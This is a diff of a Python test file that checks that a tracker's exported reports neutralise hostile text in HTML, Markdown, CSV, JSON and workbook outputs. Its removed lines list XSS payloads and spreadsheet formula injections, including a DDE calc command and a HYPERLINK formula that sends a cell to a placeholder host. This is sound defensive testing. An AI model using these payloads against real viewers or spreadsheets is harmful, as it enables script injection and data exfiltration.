@@ -1,8 +1,4 @@
-"""Texts that attack do no harm in any format: they are shown, and open, run and break nothing.
-
-The same report is rendered with harmless words and with the attack in every place that a text from outside can
-reach. Its structure must not differ, and the attack must be readable in it.
-"""
+"""Texts that attack do no harm in any output: they are shown, and open, run and break nothing. See `hostile.py`."""
 
 from __future__ import annotations
 
@@ -10,243 +6,198 @@ import csv
 import io
 import json
 import re
+import sys
 import unicodedata
-from collections.abc import Iterator
-from html.parser import HTMLParser
-from zipfile import ZipFile
+from datetime import date
 
 import pytest
-from markdown_it import MarkdownIt
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from openpyxl import load_workbook
+from python_calamine import CalamineWorkbook
+from xlsxwriter import Workbook
 
-from tests.made_up import MADE_UP, record, release
-from tracker.model import (
-    Basis,
-    Change,
-    Diff,
-    Edit,
-    Event,
-    FieldChange,
-    Finding,
-    Format,
-    Kind,
-    Level,
-    NotCompared,
-    Problem,
-    Rewording,
-    Severity,
-    Status,
-    Successor,
-    Wording,
-)
-from tracker.report import render
-from tracker.report.view import ReportView, build_view, visible
+from tests.report.hostile import ATTACKS, HARMLESS, HIDDEN, ODD, cells, check, texts
+from tests.report.hostile_views import OUTPUTS, changelog_with
+from tracker.model import ExportFormat, Format
+from tracker.report import export
+from tracker.report.changelog.view import Sort as MissedSort
+from tracker.report.export import Sort, Table
+from tracker.report.rows import Marked
+from tracker.report.table import CsvLines, guarded
+from tracker.report.view import visible
+from tracker.report.workbook import Names, _write_marked, styles_of, write_text
 
-HARMLESS = "word"
-ATTACKS = {
-    "script": "<script>alert(1)</script>",
-    "end of script": "</script><script>alert(1)//",
-    "end of table": "</td></tr></table></details></body><h1>x</h1>",
-    "attribute": "\"'><img src=x onerror=alert(1)>",
-    "comment": "<!-- --> <![CDATA[ x ]]> <?php ?>",
-    "entities": "&lt;b&gt; &amp; &#60;b&#62; &copy",
-    "formula": '=HYPERLINK("http://a.example/?"&A1,"click")',
-    "formula plus": "+1+cmd|' /C calc'!A0",
-    "formula minus": "-2+3",
-    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "number": "0088",
-    "bar": r"a | b \| c \\| d || e \ ",
-    "code": "`code` ``` fence ``` ~~~ tilde",
-    "emphasis": "**bold** __bold__ *it* _it_ ~~gone~~ ~x~ **",
-    "link": "[a](javascript:alert(1)) ![i](http://a.example/b.png) <http://a.example> [x]: http://a.example",
-    "autolink": "http://a.example www.a.example ftp://a.example me@a.example mailto:me@a.example",
-    "mention": "@user @org/team #123 GH-1 org/repo#1 :smile: $x$ $$y$$",
-    "heading": "# head",
-    "list": "- [ ] item",
-    "rule": "---",
-    "quote": "> quote",
-    "template": "{{ 7 * 7 }} {% raw %} {# x #} ${7*7}",
-    "rich": "<r><t>x</t></y></r>",
-    "escape of a workbook": "_x0041_ _x000D_",
-    "marks": "{+came+} [-went-] [bold]x[/bold]",
-    "long": "five words of a text " * 250,
-    "long word": "x" * 5000,
-    "other scripts": "עברית العربية 日本語 \U0001f600",
-}
-ODD = {
-    "colour": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
-    "C1 control": "\x9b31mred",
-    "turned": "abc \u202e cba \u2066 x",
-    "no width": "a\u200bb\ufeffc",
-    "line ends": "one\r\ntwo\u2028three",
-    "nothing": "a\x00b",
-}
-"""Characters that normalising drops from a release; a file's name and a policy's words may have them."""
+EVERYWHERE = [(name, form) for name, output in OUTPUTS.items() for form in output.formats]
+BY_ITSELF = {**ATTACKS, **ODD, "spaces": "  x  ", "half a character": "a\ud800b"}
 
 
-def view_with(text: str) -> ReportView:
-    """Return a view that has a text wherever one from outside can be."""
-    rewording = Rewording(
-        Wording.REWORDED, 0.5, (Edit("same ", "same "), Edit(text, f"new {text}"), Edit(" end", " end"))
-    )
-    retold = FieldChange("text", f"same {text} end", f"same new {text} end", rewording=rewording)
-    short = FieldChange("short", None, text)
-    priced = FieldChange("prices", ("11", text), ("11",), went=(text,))
-    remarked = FieldChange("remark", text, None)
-    ended = FieldChange("last_day", None, "2025-12-31")
-    successors = (
-        Successor("B0001", Basis.SUGGESTED, 0.5, 20.0, text),
-        Successor("B0002", Basis.DECLARED, 1.0, None, text),
-    )
-    events = (
-        Event("ended", Level.ACT, text, ("last_day",)),
-        Event("retold", Level.REVIEW, text, ("text", "short"), waived=text),
-        Event("repriced", Level.NOTE, text, ("prices", "remark")),
-    )
-    fields = (retold, short, ended, priced, remarked)
-    new = record("A0001", text=str(retold.new), short=text, last_day="2025-12-31", prices=("11",))
-    changes = (
-        Change("A0001", Kind.PROCEDURE, Status.CHANGED, new, fields, False, events, successors),
-        added("A1", text),
-        added("B0001", text),
-        Change(
-            "C0001",
-            Kind.PROCEDURE,
-            Status.REMOVED,
-            record("C0001", text=text),
-            events=(Event("gone", Level.ACT, text),),
-        ),
-    )
-    sides = [
-        release(label, 3, source_name=text, mark=text, remark=text, withdrawn=text, counts={"codes": 3})
-        for label in ("2025", "2026")
+def test_the_changelog_that_attacks_has_something_of_everything() -> None:
+    sorts = {sort.sort for sort in changelog_with(HARMLESS).missed}
+    some = MissedSort.ADDED_AND_GONE, MissedSort.ENDED_AND_BACK, MissedSort.CHANGED_BACK, MissedSort.NO_STEP
+    assert sorts == set(some)
+
+
+@pytest.mark.parametrize(("name", "form"), EVERYWHERE)
+def test_a_text_changes_nothing_but_the_text(name: str, form: Format) -> None:
+    stored = name in {"history", "fields"}  # what is told from records has no halves, and blanks part its words
+    for title, text in BY_ITSELF.items():
+        if not (stored and title in {"half a character", "spaces"}):
+            check(text, form, OUTPUTS[name])
+
+
+@pytest.mark.parametrize(("name", "form"), EVERYWHERE)
+@settings(max_examples=6, deadline=None)
+@given(text=texts())
+def test_any_text_that_attacks(name: str, form: Format, text: str) -> None:
+    check(text, form, OUTPUTS[name])
+
+
+# ---------------------------------------------------------------- characters
+
+
+def test_nothing_is_hidden_from_a_reader() -> None:
+    """Of all characters: what Unicode calls a control, a format, half a character, a line end or none at all.
+
+    But for those that Unicode means to be seen, above or around the digits behind them.
+    """
+    seen = {*range(0x600, 0x606), 0x6DD, 0x70F, 0x890, 0x891, 0x8E2, 0x110BD, 0x110CD, ord("\t"), ord("\n")}
+    odd = [
+        number
+        for number in range(sys.maxunicode + 1)
+        if unicodedata.category(chr(number)) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
+        or number & 0xFFFE == 0xFFFE
+        or 0xFDD0 <= number <= 0xFDEF
     ]
-    return build_view(
-        MADE_UP,
-        Diff(sides[0], sides[1], changes, NotCompared(1, 2, {"short": 3})),
-        remarks=[text],
-        problems={"2025@1": [Problem(Severity.WARNING, text, text, "line 1", "A0001", "short", text)]},
-        audit=[Finding("silent", "A0001", text, text)],
-    )
+    assert {number for number in odd if visible(chr(number)) == chr(number)} == seen
 
 
-def added(code: str, text: str) -> Change:
-    kind = Kind.MODIFIER if len(code) == 2 else Kind.PROCEDURE
-    came = Event("came", Level.REVIEW, text)
-    return Change(code, kind, Status.ADDED, record(code, text=text, short="s"), events=(came,))
+@pytest.mark.parametrize(
+    "text", ["Café, naïve, 20 µg → 1 mg … “x” – é", "日本語", "e\u0301", "שָׁלוֹם", "ที่นี่", "العربية", "a\tb\nc", "Ünit; 1"]
+)
+def test_what_people_write_is_left_as_it_is(text: str) -> None:
+    assert visible(text) == text
 
 
-def cells(data: bytes) -> Iterator[tuple[str, str, str]]:
-    """Yield (type, sheet, text) of a workbook's cells, and look for formulas and links in its parts."""
-    with ZipFile(io.BytesIO(data)) as parts:
-        assert not any(re.search(b"<hyperlink|<f>|externalLink", parts.read(name)) for name in parts.namelist())
-    for sheet in load_workbook(io.BytesIO(data)):
-        for row in sheet.iter_rows():
-            for cell in row:
-                if cell.value is not None:
-                    yield cell.data_type, sheet.title, str(cell.value)
+def test_many_marks_on_a_character_are_told_one_by_one() -> None:
+    assert visible("Z" + "\u0301" * 6 + "a\u0301") == "Z" + "\u0301" * 4 + "[U+0301]" * 2 + "a\u0301"
 
 
-class Page(HTMLParser):
-    """What a browser would make of a page: its elements and attributes, and its visible text."""
-
-    def __init__(self, data: bytes) -> None:
-        super().__init__()
-        self.elements: list[tuple[str, ...]] = []
-        self.text = ""
-        self.hidden = 0
-        self.feed(data.decode())
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.elements.append((tag, *(name for name, _ in attrs)))
-        self.hidden += tag in {"script", "style"}
-        for name, value in attrs:
-            assert not name.startswith("on")
-            if name in {"href", "src"}:
-                assert (value or "").startswith(("#", "data:")), (name, value)
-
-    def handle_endtag(self, tag: str) -> None:
-        self.elements.append(("/", tag))
-        self.hidden -= tag in {"script", "style"}
-
-    def handle_comment(self, data: str) -> None:
-        self.elements.append(("comment", str(len(data))))
-
-    def handle_data(self, data: str) -> None:
-        if not self.hidden:
-            self.text += data
+# ---------------------------------------------------------------- CSV
 
 
-def shown_in_markdown(data: bytes) -> tuple[list[str], str]:
-    """Return the structure of a Markdown page, and its text."""
-    structure, text = [], ""
-    as_signs = {"<strong>": "strong_open", "</strong>": "strong_close", "<del>": "s_open", "</del>": "s_close"}
-    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(data.decode()):
-        if token.type != "inline":
-            structure.append(f"{token.type} {token.content.strip() if token.type == 'html_block' else ''}")
-        for child in token.children or ():
-            if child.type in {"text", "text_special", "softbreak", "code_inline"}:
-                text += child.content
-            elif child.type == "html_inline" and child.content == "<br>":
-                text += "\n"
-            else:
-                structure.append(as_signs.get(child.content, child.type))
-        text += "\n"
-    return structure, text
+def unguarded(cell: str) -> str:
+    """Take back what `guarded` added, as docs/analysts.md says."""
+    return cell[1:] if cell.startswith("'") and guarded(cell[1:]) == cell else cell
 
 
-def structure_and_text(form: Format, data: bytes) -> tuple[object, str]:
-    """Return what must not depend on the texts, and the text that a reader sees."""
-    if form is Format.TEXT:
-        text = data.decode()
-        odd = {one for one in text if unicodedata.category(one) in {"Cc", "Cs"} or one in "\u2028\u2029\u202e\u2066"}
-        return odd - {"\n"}, text
-    if form is Format.JSON:
-        whole = json.loads(data)
-        return shape_of(whole), json.dumps(whole, ensure_ascii=False)
-    if form is Format.CSV:
-        rows = list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))
-        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
-        return [len(row) for row in rows], "\n".join(cell for row in rows for cell in row)
-    if form is Format.HTML:
-        page = Page(data)
-        return page.elements, page.text
-    if form is Format.MARKDOWN:
-        return shown_in_markdown(data)
-    found = list(cells(data))
-    return [(kind, sheet) for kind, sheet, _ in found], "\n".join(text for _, _, text in found)
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.lists(texts() | st.text("'\"=+-@ \t\r\nx＝", max_size=6), min_size=2, max_size=4), min_size=1))
+def test_a_csv_gives_back_its_texts_and_guards_can_be_taken_back(rows: list[list[str]]) -> None:
+    lines = CsvLines().lines([[guarded(cell) for cell in row] for row in rows])
+    data = "".join(f"{line}\n" for line in lines)
+    read = list(csv.reader(io.StringIO(data, newline=""), strict=True))
+    assert [[unguarded(cell) for cell in row] for row in read] == rows
+    assert not [cell for row in read for cell in row if cell[:1] in set("=+-@＝＋－＠\t\r\n")]
 
 
-def shape_of(value: object) -> object:
-    if isinstance(value, dict):
-        return {name: shape_of(one) for name, one in value.items()}
-    return [shape_of(one) for one in value] if isinstance(value, list) else type(value)
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "+1",
+        "-1",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        " =1",
+        '"=1',
+        "' =1",
+        "＝1+1",
+        "－1",
+        "＋1",
+        "＠x",
+        "\ufeff=1",
+    ],
+)
+def test_a_text_that_a_spreadsheet_may_take_for_a_formula_is_led_by_an_apostrophe(text: str) -> None:
+    assert guarded(text) == f"'{text}"
 
 
-def squeezed(text: str) -> str:
-    return re.sub(r"\s+|\u200b", "", text)
+@pytest.mark.parametrize("text", ["", "x", "0088", "1E5", "2025-01-01", "a=b", "5-10 mg", "'quoted'", "(-1)", " x"])
+def test_no_other_text_is_led_by_one(text: str) -> None:
+    assert guarded(text) == text
 
 
-@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
-@pytest.mark.parametrize("form", Format)
-def test_a_text_changes_nothing_but_the_text(form: Format, text: str) -> None:
-    harmless, _ = structure_and_text(form, render(view_with(HARMLESS), form))
-    structure, shown = structure_and_text(form, render(view_with(text), form))
-    assert structure == harmless
-    wanted = json.dumps(text, ensure_ascii=False)[1:-1] if form is Format.JSON else text
-    if form is Format.TEXT:
-        assert wanted.strip() in shown
-    else:
-        assert squeezed(visible(wanted)) in squeezed(shown)
+# ---------------------------------------------------------------- workbooks
 
 
-@pytest.mark.parametrize("text", ODD.values(), ids=ODD)
-@pytest.mark.parametrize("form", [form for form in Format if form is not Format.CSV])
-def test_characters_that_show_nothing_are_shown_and_do_nothing(form: Format, text: str) -> None:
-    harmless, _ = structure_and_text(form, render(view_with(HARMLESS), form))
-    data = render(view_with(text), form)
-    structure, shown = structure_and_text(form, data)
-    assert structure == harmless
-    if form is not Format.JSON:
-        assert squeezed(visible(text)) in squeezed(shown)
-        assert not re.search("[\x00-\x08\x0e-\x1f\x7f-\x9f\u2028\u202e\u2066\ufeff]", shown)
+@pytest.mark.parametrize(
+    "text", ["_x001B_", "_x005F_x001B_", "_x0041_x0042_x0043_", "<r>_x0041_</r>", "_x000a__x000A_"]
+)
+@pytest.mark.parametrize("differs", [False, True])
+def test_no_text_becomes_an_escape_of_a_workbook(text: str, differs: bool) -> None:
+    """Excel's notation would make a control character of it, or another text."""
+    data = io.BytesIO()
+    with Workbook(data) as book:
+        sheet, styles = book.add_worksheet("A"), styles_of(book)
+        if differs:
+            _write_marked(sheet, styles, 0, 0, Marked((("same ", False), (text, True)), came=True))
+        else:
+            write_text(sheet, styles, 0, 0, text, "plain")
+    data.seek(0)
+    ((read,),) = CalamineWorkbook.from_filelike(data).get_sheet_by_index(0).to_python()
+    assert read == (f"same {text}" if differs else text)
+
+
+def test_a_long_title_is_no_long_head_of_a_page() -> None:
+    """Excel refuses a head of more than 255 characters, and xlsxwriter warns of it."""
+    title = ", ".join(f"20{number:02}@1 & more" for number in range(60))
+    table = Table(title, date(2026, 1, 1), {"code": Sort.TEXT}, [("A1",)])
+    book = load_workbook(io.BytesIO(b"".join(export.render(table, ExportFormat.XLSX))))
+    head = str(book.worksheets[0].HeaderFooter.oddHeader)
+    assert "2000@1" in head
+    assert len(head) < 200
+
+
+# ---------------------------------------------------------------- tables for other programs
+
+
+def table_of(rows: list[tuple[str, tuple[str, ...]]]) -> Table:
+    return Table("table", date(2026, 1, 1), {"text": Sort.TEXT, "several": Sort.TEXTS}, rows, {"about": "x"})
+
+
+@settings(max_examples=40, deadline=None)
+@given(st.lists(st.tuples(texts() | st.sampled_from(list(ATTACKS.values())), st.tuples(texts(), texts())), min_size=1))
+def test_tables_hold_the_texts_themselves(rows: list[tuple[str, tuple[str, ...]]]) -> None:
+    lines = b"".join(export.render(table_of(rows), ExportFormat.JSONL)).decode().split("\n")[:-1]
+    assert [tuple(json.loads(line).values()) for line in lines] == [(text, list(several)) for text, several in rows]
+    data = b"".join(export.render(table_of(rows), ExportFormat.CSV)).decode()
+    _, *read = csv.reader(io.StringIO(data, newline=""), strict=True)
+    assert [[unguarded(cell) for cell in row] for row in read] == [[text, "; ".join(several)] for text, several in rows]
+    parquet = pytest.importorskip("pyarrow.parquet")
+    found = parquet.read_table(io.BytesIO(b"".join(export.render(table_of(rows), ExportFormat.PARQUET))))
+    assert found.to_pylist() == [{"text": text, "several": list(several)} for text, several in rows]
+
+
+@settings(max_examples=20, deadline=None)
+@given(st.lists(texts() | st.sampled_from(["1E5", "0088", "2025-01-01", "=1+1", "https://a.example"]), min_size=1))
+def test_a_workbook_holds_what_can_be_seen_as_text(rows: list[str]) -> None:
+    data = b"".join(export.render(table_of([(text, ()) for text in rows]), ExportFormat.XLSX))
+    assert {kind for kind, _ in cells(data)} == {"s"}
+    _, *read = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
+    assert [row[0] for row in read] == [visible(text) for text in rows]
+
+
+@settings(max_examples=200, deadline=None)
+@given(texts() | st.text(max_size=60))
+def test_a_sheet_has_a_name_that_excel_takes(text: str) -> None:
+    names = Names()
+    found = [names(text) for _ in range(3)]
+    assert len({name.lower() for name in found}) == 3
+    for name in found:
+        assert 0 < len(name) <= 31
+        assert not re.search(r"[\[\]:*?/\\]|^'|'$", name)
+        assert name.lower() != "history"
+        assert not HIDDEN.search(name)
